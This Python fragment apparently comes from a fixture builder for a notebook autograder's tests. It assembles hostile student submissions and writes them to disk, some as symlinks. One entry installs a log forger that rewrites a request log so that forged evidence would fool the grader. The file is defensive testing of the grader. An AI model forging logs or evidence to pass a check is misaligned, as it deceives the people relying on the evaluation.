    _append_step(loggy, "8", LOG_FORGER)
    _set_step(loggy, "3", witness("loggy", _installed("log forger")))
    entries.append(Hostile("loggy", "01-lab.ipynb", loggy, wit, evidence=("FIRED:loggy: installed",),
                           why="rewrites the warehouse's request log from receive (snack-7 → forged-7): were it the "
                               "judge's evidence, the final step would fail"))
    return entries


def witnessed_wrong(release: NotebookNode, wrong_mark: str) -> str:
    """The module that the class-7 entries' own code is, without their forgery: what they earn."""
    from labkit.notebook.module_export import assemble, parts_from_notebook

    nb = solved(release, reference_parts(wrong_mark), ALL)
    _set_step(nb, "3", witness("x", _installed("nothing")))
    return assemble(parts_from_notebook(nb))


def write(entries: list[Hostile], dest: Path) -> None:
    for entry in entries:
        path = dest / entry.student / entry.filename
        path.parent.mkdir(parents=True, exist_ok=True)
        if entry.raw.startswith("symlink:"):
            path.symlink_to(entry.raw.removeprefix("symlink:"))
            continue
        path.write_bytes(entry.bytes())
        for name, data in entry.files.items():
            (path.parent / name).parent.mkdir(parents=True, exist_ok=True)
            (path.parent / name).write_bytes(data)
